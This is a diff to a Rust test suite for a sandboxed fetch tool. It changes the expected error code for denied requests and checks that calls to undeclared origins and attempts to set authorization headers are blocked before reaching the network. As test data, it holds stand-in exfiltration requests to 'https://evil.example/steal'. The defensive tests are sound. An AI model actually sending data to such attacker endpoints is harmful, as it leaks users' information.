@@ -48,7 +48,7 @@ fn undeclared_origin_is_denied_with_a_clear_error() {
     let connection = probe_connection(&sandbox);
     let out = fetch(&connection, "https://evil.example/steal", json!([]));
     out.fails_with(
-        1,
+        4,
         &[
             "denied",
             "https://evil.example",
@@ -59,14 +59,14 @@ fn undeclared_origin_is_denied_with_a_clear_error() {
     // With a body too: the denial is reported as such, not as a broken body stream.
     let post = json!({"url": "https://evil.example/steal", "method": "POST", "headers": [],
                       "body": "x".repeat(20_000)});
-    run(&connection, "fetch", &post).fails_with(1, &["denied", "https://evil.example"]);
+    run(&connection, "fetch", &post).fails_with(4, &["denied", "https://evil.example"]);
     // The override's target is not itself allowed: only the declared name is.
     let direct = fetch(
         &connection,
         &format!("{}/v3/account/user/privileges", sandbox.url),
         json!([]),
     );
-    direct.fails_with(1, &["denied", &sandbox.url]);
+    direct.fails_with(4, &["denied", &sandbox.url]);
     assert!(
         sandbox.requests().is_empty(),
         "a denied request reached the network"
@@ -83,7 +83,7 @@ fn guest_cannot_set_authorization() {
         "https://probe.example/v3/account/user/privileges",
         headers,
     );
-    out.fails_with(1, &["denied", "authorization"]);
+    out.fails_with(4, &["denied", "authorization"]);
     assert!(sandbox.requests().is_empty(), "the request was sent anyway");
 }
 
